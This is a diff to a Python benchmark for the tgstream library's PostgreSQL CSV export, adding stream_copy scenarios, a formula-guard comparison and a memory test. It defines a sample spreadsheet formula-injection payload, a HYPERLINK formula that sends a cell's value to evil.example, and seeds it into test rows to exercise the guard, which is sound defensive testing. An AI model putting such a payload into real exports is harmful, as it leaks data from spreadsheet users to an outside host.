@@ -17,10 +17,20 @@ a table of N rows (default 200 000) of ``(id, name, email, created_at)``:
     T-csv      tgstream csv, return stream_query(...) (formula guard on)
     T-csv-yield
                tgstream csv, the natural generator
+    K-f        K on items_f: the same rows, one name in 1 000 a formula
+               (=HYPERLINK(...)) -- the baseline of stream_copy
+    T-copy     tgstream csv, return stream_copy(session, select(items_f)),
+               formula guard on
+    T-copy-noguard
+               T-copy with formula_guard=False
     (-adapter: the app's json renderer has a datetime adapter)
 
 Scenarios alternate within each round (the order rotates every round); the
 report shows medians and ratios to R (json) and K (csv).
+
+With ``--copy-memory``, the peak RSS growth of a process streaming
+stream_copy of 200 000 and 2 000 000 generated rows (generate_series, the
+same formula-like names) is measured in child processes.
 
 Usage::
 
@@ -53,7 +63,14 @@ SCENARIOS = {
     'T-json-yield-adapter': 'T-json-yield with the datetime adapter',
     'T-csv': 'tgstream csv, return stream_query(...) (formula guard on)',
     'T-csv-yield': 'tgstream csv, generator yielding rows (yield_per=1000)',
+    'K-f': 'K on items_f (one name in 1 000 is =HYPERLINK(...))',
+    'T-copy': 'tgstream csv, return stream_copy(session, select(items_f)) (formula guard on)',
+    'T-copy-noguard': 'T-copy with formula_guard=False',
 }
+
+#: the formula-like name of one row in 1 000 of items_f
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
 
 
 def ensure_table(url: str, rows: int) -> None:
@@ -74,6 +91,15 @@ def ensure_table(url: str, rows: int) -> None:
                 "FROM generate_series(1, %d) AS n" % (SCHEMA, rows)
             )
             conn.execute('VACUUM ANALYZE %s.items' % SCHEMA)
+        conn.execute(
+            'CREATE TABLE IF NOT EXISTS %s.items_f (LIKE %s.items INCLUDING ALL)' % (SCHEMA, SCHEMA))
+        have = conn.execute('SELECT count(*) FROM %s.items_f' % SCHEMA).fetchone()[0]
+        if have != rows:
+            conn.execute('TRUNCATE %s.items_f' % SCHEMA)
+            conn.execute(
+                'INSERT INTO %s.items_f SELECT id, CASE WHEN mod(id, 1000) = 0 THEN %%s ELSE name '
+                'END, email, created_at FROM %s.items' % (SCHEMA, SCHEMA), (FORMULA,))
+            conn.execute('VACUUM ANALYZE %s.items_f' % SCHEMA)
 
 
 # -- the apps -----------------------------------------------------------------------
@@ -112,7 +138,7 @@ def app_r(url: str):
     return app
 
 
-def app_k(url: str):
+def app_k(url: str, table: str = 'items'):
     import psycopg
 
     def app(environ, start_response):
@@ -122,8 +148,8 @@ def app_k(url: str):
             try:
                 with conn.cursor() as cursor:
                     with cursor.copy(
-                        'COPY (SELECT %s FROM %s.items ORDER BY id) TO STDOUT '
-                        'WITH (FORMAT csv, HEADER)' % (COLUMNS, SCHEMA)
+                        'COPY (SELECT %s FROM %s.%s ORDER BY id) TO STDOUT '
+                        'WITH (FORMAT csv, HEADER)' % (COLUMNS, SCHEMA, table)
                     ) as copy:
                         for block in copy:
                             yield bytes(block)
@@ -143,7 +169,11 @@ def app_t(url: str, variant: str):
     import tgstream
 
     engine = create_engine(url.replace('postgresql://', 'postgresql+psycopg://', 1))
-    items = Table('items', MetaData(schema=SCHEMA), Column('id', Integer, primary_key=True),
+    options = None
+    if variant.startswith('copy'):
+        options = {'formula_guard': not variant.endswith('-noguard')}
+    items = Table('items_f' if options else 'items', MetaData(schema=SCHEMA),
+                  Column('id', Integer, primary_key=True),
                   Column('name', String), Column('email', String),
                   Column('created_at', DateTime))
     statement = select(items).order_by(items.c.id)
@@ -163,9 +193,16 @@ def app_t(url: str, variant: str):
     def result(request):
         return request.dbsession.execute(statement.execution_options(yield_per=1000))
 
+    def copied(request):
+        return tgstream.stream_copy(request.dbsession, statement)
+
+    config.add_route('items', '/items')
+    if options is not None:
+        config.add_view(copied, route_name='items', renderer='csv', stream=True,
+                        stream_options=options)
+        return config.make_wsgi_app()
     kind, _, how = variant.partition('-')
     view = {'': returned, 'yield': generator, 'result': result}[how]
-    config.add_route('items', '/items')
     config.add_view(view, route_name='items', renderer=kind, stream=True)
     return config.make_wsgi_app()
 
@@ -175,6 +212,8 @@ def make_app(name: str, url: str):
         return app_r(url)
     if name == 'K':
         return app_k(url)
+    if name == 'K-f':
+        return app_k(url, 'items_f')
     return app_t(url, name[2:])
 
 
@@ -208,7 +247,11 @@ def call(app) -> tuple[float, float, int, bytes]:
 
 
 def check(name: str, head: bytes) -> None:
-    if name == 'K' or name.startswith('T-csv'):
+    if name.startswith('T-copy') and not name.endswith('-noguard'):
+        # the guard quotes text cells (FORCE_QUOTE): PostgreSQL cannot quote a row
+        assert head.startswith(b'id,name,email,created_at\n1,"user 1","user1@example.com",'
+                               b'2024-01-01 00:00:01'), (name, head)
+    elif name.startswith(('K', 'T-csv', 'T-copy')):
         expected = b'id,name,email,created_at'
         assert head.startswith(expected), (name, head)
         assert b'1,user 1,user1@example.com,2024-01-01 00:00:01' in head, (name, head)
@@ -265,14 +308,17 @@ def report(results: dict, args, took: float, load: str) -> str:
             median(name, 'ttfb_ms')))
     checks = []
     for name, base, label, goal in (
-        ('T-json', r, 'R', 0.9), ('T-json-yield', r, 'R', 0.6), ('T-csv', k, 'K', 0.5),
+        ('T-json', r, 'R', 0.9), ('T-json-yield', r, 'R', 0.7), ('T-csv', k, 'K', 0.5),
+        ('T-copy', median('K-f'), 'K-f', 0.9),
     ):
         value = median(name)
         if value and base:
             checks.append('- %s / %s: %.2f× (target ≥ %.2f×) %s' % (
                 name, label, value / base, goal, '✅' if value / base >= goal else '❌'))
     if checks:
-        lines += ['', '## Targets (issue 14)', ''] + checks
+        lines += ['', '## Targets (issues 14 and 27)', ''] + checks
+    if getattr(args, 'memory', None):
+        lines += ['', '## stream_copy memory (issue 27)', ''] + args.memory
     lines += ['', '## Notes', '', NOTES.strip()]
     return '\n'.join(lines) + '\n'
 
@@ -302,6 +348,56 @@ NOTES = """
   like batches. T-json-result (a returned yield_per Result of a Core
   statement) takes stream_query's tuple path.
 """
+
+
+def copy_memory_child(url: str, rows: int) -> None:
+    """(In a child process) print the peak RSS growth, in KiB, of one
+    stream_copy of ``rows`` generated rows, and its rows/s."""
+    from bench_apps import pyramid_config
+    from sqlalchemy import create_engine, text
+
+    import tgstream
+
+    engine = create_engine(url.replace('postgresql://', 'postgresql+psycopg://', 1))
+    statement = text(
+        "SELECT n AS id, CASE WHEN n % 1000 = 0 THEN :formula ELSE 'user ' || n END AS name, "
+        "'user' || n || '@example.com' AS email, "
+        "timestamp '2024-01-01' + n * interval '1 second' AS created_at "
+        "FROM generate_series(1, :rows) AS n").bindparams(formula=FORMULA, rows=rows)
+    config = pyramid_config(engine)
+    config.include('tgstream')
+    config.add_route('items', '/items')
+    config.add_view(lambda request: tgstream.stream_copy(request.dbsession, statement),
+                    route_name='items', renderer='csv', stream=True)
+    app = config.make_wsgi_app()
+
+    def status(key):
+        for line in open('/proc/self/status'):
+            if line.startswith(key):
+                return int(line.split()[1])
+
+    before = status('VmRSS:')
+    elapsed, _, size, _ = call(app)
+    print(status('VmHWM:') - before, rows / elapsed, size)
+
+
+def copy_memory(url: str, sizes=(200_000, 2_000_000)) -> list:
+    import subprocess
+
+    found = {}
+    for rows in sizes:
+        out = subprocess.run(
+            [sys.executable, __file__, '--url', url, '--memory-child', str(rows)],
+            check=True, capture_output=True, text=True, cwd=HERE).stdout.split()
+        found[rows] = (int(out[0]) / 1024, float(out[1]), int(out[2]))
+    lines = ['Peak RSS growth of the process (VmHWM minus VmRSS before the request) '
+             'during one stream_copy of N generated rows (guard on), in a child process:', '']
+    lines += ['- N = %d: +%.1f MiB (%.0f rows/s, %d bytes)' % ((rows,) + found[rows])
+              for rows in sizes]
+    growth = found[sizes[-1]][0] - found[sizes[0]][0]
+    lines.append('- growth %d → %d rows: %+.1f MiB (target: flat) %s' % (
+        sizes[0], sizes[-1], growth, '✅' if growth < 5 else '❌'))
+    return lines
 
 
 SECTION = '# PostgreSQL export benchmark'
@@ -340,7 +436,14 @@ def main(argv=None) -> int:
     parser.add_argument('--output', default=os.path.join(HERE, 'RESULTS.md'),
                         help='the report replaces its own section of this file')
     parser.add_argument('--no-write', action='store_true')
+    parser.add_argument('--copy-memory', action='store_true',
+                        help='also measure stream_copy memory at 200 000 and 2 000 000 rows')
+    parser.add_argument('--memory-child', type=int, help=argparse.SUPPRESS)
     args = parser.parse_args(argv)
+    if args.memory_child:
+        sys.path.insert(0, HERE)
+        copy_memory_child(args.url, args.memory_child)
+        return 0
     args.argv = list(argv if argv is not None else sys.argv[1:])
     if args.quick:
         args.rows, args.rounds, args.no_write = 20_000, 2, True
@@ -356,6 +459,7 @@ def main(argv=None) -> int:
     started = time.monotonic()
     ensure_table(args.url, args.rows)
     results = run(names, args.url, args.rows, args.rounds, log)
+    args.memory = copy_memory(args.url) if args.copy_memory else None
     text = report(results, args, time.monotonic() - started, load)
     print(text)
     if not args.no_write:
